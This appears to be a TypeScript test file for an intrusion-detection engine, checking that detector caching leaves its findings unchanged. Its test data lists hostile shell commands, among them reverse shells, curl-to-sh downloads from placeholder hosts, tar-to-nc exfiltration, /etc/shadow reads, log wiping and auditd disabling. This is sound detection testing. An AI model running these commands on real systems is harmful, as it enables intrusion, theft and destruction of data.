import { readFileSync } from "node:fs";
import { gunzipSync } from "node:zlib";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { z } from "zod";
import { ConfigurationReader } from "../config/configuration.ts";
import { type Context, correlator, type Detector, matcher } from "../detectors/detector.ts";
import { detectors } from "../detectors/index.ts";
import type { Fact, Process, ProcessStarted } from "../events/fact.ts";
import { AuditParser } from "../parsers/audit/audit-parser.ts";
import { Engine } from "./engine.ts";
import { ProcessTable } from "./process-table.ts";

const none = () => undefined;
const context: Context = {
  threats: {
    address: none,
    domain: (name) => (name === "evil.example" ? { list: "l", entry: name } : undefined),
    url: none,
    image: none,
  },
  userName: (uid) => (uid === 33 ? "www-data" : undefined),
};
const configuration = new ConfigurationReader(detectors).defaults();

/** The same detector, of which nothing may be remembered. */
function forgotten(detector: Detector): Detector {
  return {
    ...detector,
    start(...given) {
      const { judge, snapshot } = detector.start(...given);
      return { judge, ...(snapshot && { snapshot }) };
    },
  };
}

function engineOf(of: readonly Detector[], world = context): Engine {
  return new Engine({
    detectors: of,
    settingsOf: (alert) => configuration.alerts[alert],
    enabled: () => true,
    context: world,
    table: new ProcessTable(),
  });
}

/** Findings by both engines, as JSON, fact by fact. */
function both(facts: readonly Fact[]): [string[], string[]] {
  const engines = [engineOf(detectors), engineOf(detectors.map(forgotten))] as const;
  const told = engines.map((engine) => facts.map((fact) => JSON.stringify(engine.push(fact))));
  const memories = engines.map((engine) => JSON.stringify(engine.memory()));
  return [
    [...(told[0] ?? []), memories[0] ?? ""],
    [...(told[1] ?? []), memories[1] ?? ""],
  ];
}

const lines = [
  "curl -s http://203.0.113.9/x.sh | sh",
  "wget http://evil.example/a -O /tmp/.a; chmod +x /tmp/.a; /tmp/.a",
  "/tmp/.a",
  "nc -e /bin/sh 203.0.113.9 4444",
  "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
  "mkfifo /tmp/f",
  "nc 203.0.113.9 4444",
  "sh -i",
  "sh",
  "curl -s http://203.0.113.9/x.sh",
  "cat /etc/shadow",
  "cat /etc/passwd",
  "uname -a",
  "id",
  "w",
  "ps aux",
  "netstat -tlnp",
  "free -m",
  "grep Mem",
  "df -h",
  "grep -i vmware /proc/cpuinfo",
  "rm -rf /home/eve/.ssh",
  "rm -rf /var/log/syslog",
  "history -c",
  "iptables -F",
  "iptables -P INPUT DROP",
  "systemctl stop auditd",
  "auditctl -D",
  "auditctl -R /etc/audit/audit.rules",
  "gpg -c --batch --passphrase x /srv/a",
  "openssl enc -aes-256-cbc -in /srv/b -out /srv/b.enc -k x",
  "gcc -o /tmp/x /tmp/x.c",
  "useradd -o -u 0 toor",
  "userdel eve",
  "usermod -aG sudo eve",
  "tar cz /etc | nc 203.0.113.9 9",
  "/bin/busybox QWXZK",
  "cd /tmp || cd /var/run || cd /mnt; wget http://203.0.113.9/bins.sh",
  "xmrig -o stratum+tcp://pool.example:3333",
  "nohup /tmp/x &",
  "docker run --privileged -v /:/h alpine",
  "ssh -R 9000:localhost:22 eve@203.0.113.9",
  "ls -l",
  "true",
  "agetty --autologin pi tty1",
  "sed s/a/b/ f",
];
const parents: readonly (readonly [string, ...string[]])[] = [
  ["/bin/bash", "-bash"],
  ["/usr/sbin/nginx", "nginx: worker"],
  ["/usr/sbin/cron", "cron"],
  ["/usr/bin/dpkg", "dpkg", "--configure", "-a"],
  ["/bin/bash", "bash", "/tmp/install.sh"],
];

interface Drawn {
  readonly line: string;
  readonly shell: boolean;
  readonly parent: number;
  readonly uid: number | undefined;
  readonly session: number | undefined;
  readonly contained: boolean;
  readonly failed: boolean;
  /** Milliseconds since the one before. */
  readonly wait: number;
}

const start: fc.Arbitrary<Drawn> = fc.record({
  line: fc.constantFrom(...lines),
  shell: fc.boolean(),
  parent: fc.nat(parents.length - 1),
  uid: fc.constantFrom(0, 33, 1000, undefined),
  session: fc.constantFrom(1, 2, undefined),
  contained: fc.boolean(),
  failed: fc.boolean(),
  wait: fc.constantFrom(0, 5, 300, 1500, 61_000),
});

/** The parents first, then each start in its own process, in time. */
function factsOf(drawn: readonly Drawn[]): Fact[] {
  let at = 1_000_000;
  const above = parents.map(([exe, ...argv], index) => execution({ pid: 100 + index, ppid: 1, exe, argv, uid: 0 }, at));
  const below = drawn.map(({ line, shell, parent, uid, session, contained, failed, wait }, index) => {
    at += wait;
    const argv = shell ? ["sh", "-c", line] : line.split(" ");
    const exe = argv[0]?.startsWith("/") ? argv[0] : `/usr/bin/${argv[0]}`;
    const container = contained ? { id: "c".repeat(64) } : undefined;
    const process = { pid: 1000 + index, ppid: 100 + parent, exe, argv, uid, session, container, cwd: "/root" };
    return execution(process, at, failed);
  });
  return [...above, ...below, { kind: "clock.ticked", at: at + 3_600_000 }];
}

function execution(process: Process, at: number, failed = false): ProcessStarted {
  const file = { path: process.exe, inode: 7, device: "fe:00" };
  return failed
    ? { kind: "process.started", at, process, failed, file }
    : { kind: "process.started", at, process, file };
}

describe("remembering which detectors a start concerns", () => {
  test("changes no finding and no memory over a recording of real work, played twice", () => {
    const facts = recorded();
    const span = (facts.at(-1)?.at ?? 0) - (facts[0]?.at ?? 0) + 1000;
    const [remembering, forgetting] = both([...facts, ...facts.map((fact) => ({ ...fact, at: fact.at + span }))]);
    expect(facts.length).toBeGreaterThan(5000);
    expect(remembering.some((told) => told !== "[]")).toBe(true);
    expect(remembering).toEqual(forgetting);
  });

  test("changes no finding and no memory, whatever attacks and daily work follow each other", () => {
    fc.assert(
      fc.property(fc.array(start, { minLength: 20, maxLength: 120 }), (drawn) => {
        const [remembering, forgetting] = both(factsOf(drawn));
        expect(remembering).toEqual(forgetting);
      }),
      { numRuns: 60 },
    );
  });

  test("finds each attack again when it comes again", () => {
    const drawn = lines.map((line) => ({
      line,
      shell: true,
      parent: 0,
      uid: 1000,
      session: 1,
      contained: false,
      failed: false,
      wait: 61_000,
    }));
    const [told] = both(factsOf([...drawn, ...drawn]));
    const firsts = told.slice(parents.length, parents.length + lines.length);
    const seconds = told.slice(parents.length + lines.length, parents.length + 2 * lines.length);
    const quiet = ["ls -l", "true", "sed s/a/b/ f", "sh", "grep Mem", "sh -i"];
    expect(firsts.filter((findings) => findings !== "[]").length).toBeGreaterThan(lines.length / 2);
    for (const [index, findings] of firsts.entries())
      if (findings !== "[]" && !quiet.includes(lines[index] ?? "")) expect(seconds[index], lines[index]).not.toBe("[]");
  });
});

describe("a judge is asked again", () => {
  const settings = z.object({});
  const shown = (read: (fact: ProcessStarted, world: Context) => unknown) => {
    const seen: unknown[] = [];
    const detector = matcher({
      alert: "attack-tools",
      on: ["process.started"],
      settings,
      match(fact, _, world) {
        seen.push(read(fact, world));
        return undefined;
      },
    });
    return { detector, seen };
  };
  const command = { pid: 5, ppid: 4, exe: "/bin/ls", argv: ["ls"], uid: 0, cwd: "/" };
  const others: Record<string, [(fact: ProcessStarted, world: Context) => unknown, Partial<Process>]> = {
    "its program": [({ process }) => process.exe, { exe: "/tmp/ls" }],
    "its arguments": [({ process }) => process.argv, { argv: ["ls", "-l"] }],
    "its directory": [({ process }) => process.cwd, { cwd: "/tmp" }],
    "its uid": [({ process }) => process.uid, { uid: 7 }],
    "its pid": [({ process }) => process.pid, { pid: 6 }],
    "its session": [({ process }) => process.session, { session: 3 }],
    "its terminal": [({ process }) => process.tty, { tty: "pts0" }],
    "its login": [({ process }) => process.loginUid, { loginUid: 1000 }],
    "its container": [({ process }) => process.container?.id, { container: { id: "d".repeat(64) } }],
    "all of it, by a copy": [({ process }) => ({ ...process }), { pid: 9 }],
  };
  test.each(Object.entries(others))("when it read %s, and that is another now", (_, [read, change]) => {
    const { detector, seen } = shown(read);
    const engine = engineOf([detector]);
    engine.push(execution(command, 1));
    engine.push(execution({ ...command, ...change }, 2));
    expect(seen).toHaveLength(2);
  });

  test.each(Object.entries(others).filter(([name]) => !/pid|session|copy/.test(name)))(
    "not when it read %s, and that is the same",
    (_, [read, change]) => {
      const { detector, seen } = shown(read);
      const engine = engineOf([detector]);
      engine.push(execution({ ...command, ...change }, 1));
      engine.push(execution({ ...command, ...change, pid: 77, ppid: 76 }, 2));
      expect(seen).toHaveLength(1);
    },
  );

  test("when it read the ancestors, and one of them is another program", () => {
    const { detector, seen } = shown(({ process }) => process.ancestors?.map(({ exe }) => exe));
    const engine = engineOf([detector]);
    const parent = (exe: string) => execution({ pid: 4, ppid: 1, exe, argv: [exe], cwd: "/" }, 1);
    for (const exe of ["/bin/a", "/bin/a", "/bin/b"]) {
      engine.push(parent(exe));
      engine.push(execution(command, 2));
    }
    expect(seen.filter((names) => Array.isArray(names) && names.length === 1)).toEqual([["/bin/a"], ["/bin/b"]]);
  });

  test("always, when it asked the threat lists, which change", () => {
    const { detector, seen } = shown((_, { threats }) => threats.domain("x.example"));
    const engine = engineOf([detector]);
    engine.push(execution(command, 1));
    engine.push(execution(command, 2));
    expect(seen).toHaveLength(2);
  });

  test("when it asked the account's name, and the account has another name now", () => {
    const names = ["eve", "eve", "joe"];
    let index = 0;
    const { detector, seen } = shown(({ process }, world) => world.userName(process.uid ?? -1));
    const engine = engineOf([detector], { ...context, userName: (uid) => (uid === 0 ? names[index] : undefined) });
    for (; index < names.length; index++) engine.push(execution({ ...command, user: "given" }, index));
    expect(seen).toEqual(["eve", "joe"]);
  });

  test("after a new configuration", () => {
    const { detector, seen } = shown(({ process }) => process.exe);
    const engine = engineOf([detector]);
    engine.push(execution(command, 1));
    engine.reconfigure();
    engine.push(execution(command, 2));
    expect(seen).toHaveLength(2);
  });

  test("when its memory awaits the fact, although the fact alone does not concern it", () => {
    const shownTo: number[] = [];
    const detector = correlator({
      alert: "attack-tools",
      on: ["process.started"],
      settings,
      memory: () => ({ armed: false }),
      concerns: ({ process }) => process.exe === "/bin/arm",
      awaits: (_fact, memory) => memory.armed,
      step({ at, process }, memory) {
        shownTo.push(at);
        memory.armed = process.exe === "/bin/arm";
        return undefined;
      },
    });
    const engine = engineOf([detector]);
    for (const [at, exe] of ["/bin/ls", "/bin/ls", "/bin/arm", "/bin/ls", "/bin/ls"].entries())
      engine.push(execution({ ...command, exe }, at));
    expect(shownTo).toEqual([2, 3]);
  });

  test("when two commands differ only in where a forged NUL stands", () => {
    const { detector, seen } = shown(({ process }) => process.argv);
    const engine = engineOf([detector]);
    for (const argv of [
      ["a", "b\0c"],
      ["a\0b", "c"],
    ])
      engine.push(execution({ ...command, argv }, 1));
    expect(seen).toHaveLength(2);
  });

  test("when it failed: the fault is counted each time", () => {
    const detector = matcher({
      alert: "attack-tools",
      on: ["process.started"],
      settings,
      match() {
        throw new Error("broken");
      },
    });
    const engine = engineOf([detector]);
    for (const at of [1, 2, 3]) engine.push(execution(command, at));
    expect(engine.counts().get("attack-tools")?.faults).toBe(3);
  });
});

function recorded(): Fact[] {
  const parser = new AuditParser();
  const facts: Fact[] = [];
  const log = gunzipSync(readFileSync(new URL("../../bench/testdata/audit.log.gz", import.meta.url)));
  parser.push(log, (fact) => facts.push(fact));
  parser.flush((fact) => facts.push(fact));
  return facts;
}
